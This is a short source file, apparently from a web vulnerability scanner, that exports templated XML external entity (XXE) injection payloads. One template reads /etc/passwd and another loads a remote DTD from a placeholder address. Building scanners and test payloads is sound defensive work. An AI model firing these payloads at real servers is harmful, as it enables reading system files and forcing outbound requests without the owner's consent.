/** XML external entities. */
export const XXE = String.raw`
xxe/file [body-xml,value] 3: <?xml version="1.0"?><!DOCTYPE ‹=r:‹~3-6›› [<!ENTITY ‹=e:‹~3-6›› SYSTEM "file:///etc/passwd">]><‹=r›>&‹=e›;</‹=r›>
xxe/parameter [body-xml,value] 2: <!DOCTYPE ‹~3-6› [<!ENTITY % ‹=e:‹~1-6›› SYSTEM "http://‹addr›/‹rnd›.dtd"> %‹=e›;]>
`
